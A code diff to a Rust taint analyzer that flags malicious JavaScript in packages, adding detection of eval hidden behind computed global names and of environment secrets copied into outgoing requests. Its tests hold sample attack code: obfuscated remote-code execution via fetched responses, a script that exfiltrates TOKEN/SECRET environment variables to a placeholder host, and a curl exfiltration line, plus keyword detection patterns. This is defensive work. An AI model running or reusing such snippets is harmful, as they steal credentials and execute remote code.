@@ -63,6 +63,8 @@ pub fn flows(an: &Analyzer, program: &Program) -> (Vec<Flow>, Vec<Flow>) {
     let mut t = Tracker {
         an,
         vars: HashMap::default(),
+        filled: Default::default(),
+        global_picks: Default::default(),
         paths: HashMap::default(),
         params: HashMap::default(),
         returns: HashMap::default(),
@@ -125,6 +127,10 @@ pub fn worth_tracking(src: &str) -> bool {
         "'-e'",
         "\"-e\"",
         "node -",
+        "globalThis[",
+        "global[",
+        "window[",
+        "self[",
     ]
     .iter()
     .any(|k| src.contains(k))
@@ -167,6 +173,10 @@ pub fn worth_tracking(src: &str) -> bool {
 struct Tracker<'b, 's> {
     an: &'b Analyzer<'s>,
     vars: HashMap<String, Taint>,
+    /// Variables the code filled with secrets field by field (`out[k] = process.env[k]`).
+    filled: std::collections::HashSet<String>,
+    /// Variables holding a global picked by a computed name (`const g = globalThis[f(k)]`).
+    global_picks: std::collections::HashSet<String>,
     /// Variables holding a credential file's path (`const p = path.join(home, '.npmrc')`).
     paths: HashMap<String, String>,
     /// Local functions and their parameter names.
@@ -243,8 +253,29 @@ fn data_file(s: &str) -> Option<&'static str> {
 }
 
 /// Calls that run a string as code; the index of the argument holding the code.
+/// The runner name of a global function called by a computed name (`globalThis[f(k)](x)`).
+const GLOBAL_BY_COMPUTED_NAME: &str = "globalThis[<computed>]";
+
+/// `globalThis[f(k)]`: a global picked by a name computed by a call (`window`, `global`, `self`
+/// too, when the code did not declare a variable of that name).
+fn global_by_computed_name(e: &Expression, declared: &HashMap<String, Taint>) -> bool {
+    let Expression::ComputedMemberExpression(m) = e.without_parentheses() else {
+        return false;
+    };
+    matches!(
+        m.object.without_parentheses(),
+        Expression::Identifier(g)
+            if matches!(g.name.as_str(), "globalThis" | "global" | "window" | "self")
+                && !declared.contains_key(g.name.as_str())
+    ) && matches!(
+        m.expression.without_parentheses(),
+        Expression::CallExpression(_)
+    )
+}
+
 pub fn code_runner(p: &str, n_args: usize) -> Option<usize> {
     match p {
+        GLOBAL_BY_COMPUTED_NAME => Some(0),
         "eval"
         | "vm.runInThisContext"
         | "vm.runInNewContext"
@@ -519,6 +550,20 @@ fn auth_key(k: &str) -> bool {
             | "passphrase"
             | "env"
     )
+}
+
+/// Under an `env` key, the environment itself (`{ env: process.env }`, `{ env: { ...process.env
+/// } }`) is what a process start is given; as the payload of a request it is theft.
+fn whole_env_value(e: &Expression) -> bool {
+    match e.without_parentheses() {
+        Expression::ObjectExpression(o) => o.properties.iter().any(|p| {
+            matches!(p, ObjectPropertyKind::SpreadProperty(s)
+                if matches!(s.argument.without_parentheses(), Expression::StaticMemberExpression(m)
+                    if m.property.name == "env"
+                        && matches!(m.object.without_parentheses(), Expression::Identifier(o) if o.name == "process")))
+        }),
+        _ => false,
+    }
 }
 
 /// Calls that send data out of the machine.
@@ -1067,7 +1112,13 @@ impl Tracker<'_, '_> {
                 for p in &o.properties {
                     match p {
                         ObjectPropertyKind::ObjectProperty(p) => {
-                            if p.key.static_name().is_some_and(|k| auth_key(&k)) {
+                            // `{ env }`, `{ env: grabbed }`: a variable the code filled with
+                            // secrets field by field, or `{ env: { ...process.env } }`, a copy
+                            // of the whole environment; not settings handed to a client
+                            // (`{ env: process.env }`, `{ env }` of a variable aliasing it).
+                            let own_copy = matches!(&p.value, Expression::Identifier(id) if self.filled.contains(id.name.as_str()))
+                                || whole_env_value(&p.value);
+                            if p.key.static_name().is_some_and(|k| auth_key(&k)) && !own_copy {
                                 continue;
                             }
                             t = best(t, self.taint_of(&p.value, depth + 1));
@@ -1170,6 +1221,19 @@ impl Tracker<'_, '_> {
     /// The runner a callee names: its resolved path, or `<obj>.method` on an object the alias
     /// map does not know (`new Module(x)._compile(s)`).
     fn runner_of(&self, callee: &Expression, p: Option<&String>) -> Option<String> {
+        match callee.without_parentheses() {
+            // A global function picked by a name computed at run time (`globalThis[dec(k)](s)`,
+            // or kept first: `const g = globalThis[dec(k)]; g(s)`): what it is given is run
+            // like `eval`'s argument, the only global worth hiding.
+            e if global_by_computed_name(e, &self.vars) => {
+                return Some(GLOBAL_BY_COMPUTED_NAME.to_string());
+            }
+            Expression::Identifier(id) if self.global_picks.contains(id.name.as_str()) => {
+                return Some(GLOBAL_BY_COMPUTED_NAME.to_string());
+            }
+            _ => {}
+        }
+        // A runner on an object the alias map does not know (`new Module(x)._compile(s)`).
         p.cloned().or_else(|| match callee.without_parentheses() {
             Expression::StaticMemberExpression(m) => Some(format!("<obj>.{}", m.property.name)),
             _ => None,
@@ -1442,6 +1506,21 @@ impl<'a> Visit<'a> for SiteProbe<'_, '_, '_> {
         }
     }
 
+    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
+        // `const g = globalThis[dec(k)]`: the tracker learns `g` is a runner only while it
+        // walks, so the pick itself counts as a site.
+        if it
+            .init
+            .as_ref()
+            .is_some_and(|e| global_by_computed_name(e, &self.t.vars))
+        {
+            self.found = true;
+        }
+        if !self.found {
+            walk::walk_variable_declarator(self, it);
+        }
+    }
+
     fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
         self.found |= inline_import(self.t.an, it);
         if !self.found {
@@ -1559,6 +1638,11 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
 
     fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
         if let Some(init) = &it.init {
+            if let BindingPattern::BindingIdentifier(id) = &it.id
+                && global_by_computed_name(init, &self.vars)
+            {
+                self.global_picks.insert(id.name.to_string());
+            }
             if let BindingPattern::BindingIdentifier(id) = &it.id {
                 match init.without_parentheses() {
                     Expression::ArrowFunctionExpression(f) => {
@@ -1627,6 +1711,7 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
                         && obj.name != "process"
                     {
                         self.taint_var(obj.name.as_str(), t);
+                        self.filled.insert(obj.name.to_string());
                     }
                 }
             }
@@ -1867,6 +1952,23 @@ exec(`curl -s -d ${d} https://c.example/e`);"#;
     }
 
     #[test]
+    fn a_response_run_by_a_global_named_at_run_time() {
+        let src = r#"function d(h, k) { let s = ""; for (let i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ k.charCodeAt(0)); return s; }
+async function go() { const res = await fetch("https://h.example/c"); const j = await res.json(); globalThis[d("2a", "K")](j.message); }"#;
+        let r = runs(src);
+        assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
+        let kept = r#"function d(h) { return Buffer.from(h, "hex").toString(); }
+const https = require("https");
+https.get("https://h.example/c", (r) => { let s = ""; r.on("data", (c) => (s += c)); r.on("end", () => { const g = globalThis[d("6576616c")]; g("(function(q){" + JSON.parse(s).x + "})")(require); }); });"#;
+        let r = runs(kept);
+        assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
+        // A callback named by the caller (JSONP) is given data, not code.
+        let jsonp = r#"async function go(cb) { const res = await fetch("https://h.example/c"); window[cb](await res.json()); }
+const o = { run: 1 }; globalThis["console"].log(o);"#;
+        assert!(runs(jsonp).is_empty(), "{:?}", runs(jsonp));
+    }
+
+    #[test]
     fn a_response_handed_to_a_callback_parameter_reaches_compile() {
         let src = r#"const https = require("https"); const Module = require("module");
 function remote(cb) { https.get("https://h.example/raw", (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => cb(b)); }); }
@@ -1889,6 +1991,34 @@ fetch("https://c.example/u", { method: "POST", body: JSON.stringify(grab) });"#;
         let one = r#"const o = {}; for (const k of ["HOME", "LANG"]) o[k] = process.env[k];
 fetch("https://c.example/u", { method: "POST", body: JSON.stringify(o) });"#;
         assert!(flows(one).is_empty());
+    }
+
+    #[test]
+    fn secret_named_keys_filtered_then_copied_reach_a_request() {
+        let src = r#"const https = require("https");
+const keys = Object.keys(process.env).filter((k) => /TOKEN|SECRET/.test(k));
+if (keys.length) {
+  const env = {};
+  for (const k of keys) env[k] = process.env[k];
+  const body = Buffer.from(JSON.stringify({ cwd: process.cwd(), env })).toString("base64");
+  const r = https.request({ host: "h.example", method: "POST" });
+  r.end(body);
+}"#;
+        let f = flows(src);
+        assert_eq!(f.first().map(|f| f.0), Some(Source::Secrets), "{f:?}");
+        // Settings handed to a client under `env` are not the environment sent.
+        let settings = r#"fetch("https://h.example", { method: "POST", body: JSON.stringify({ env: process.env }) });
+const env = "production"; fetch("https://h.example", { method: "POST", body: JSON.stringify({ env }) });
+function opts(o) { const env = o.env || process.env; return { env, argv: [] }; } fetch(opts({}).argv);"#;
+        assert!(flows(settings).is_empty(), "{:?}", flows(settings));
+        // A copy of the whole environment in an error report's context is the environment.
+        let report = r#"function ctx() { return { runtime: { argv: process.argv, env: { ...process.env } } }; }
+fetch("https://h.example/e", { method: "POST", body: JSON.stringify({ contexts: ctx() }) });"#;
+        assert_eq!(flows(report).first().map(|f| f.0), Some(Source::Secrets));
+        // The same copy handed to a process start sends nothing.
+        let spawn = r#"const cp = require("child_process"); const opts = { env: { ...process.env, A: "1" } };
+cp.spawn("node", ["x.js"], opts); fetch("https://h.example/p", { method: "POST", body: "ping" });"#;
+        assert!(flows(spawn).is_empty(), "{:?}", flows(spawn));
     }
 
     #[test]
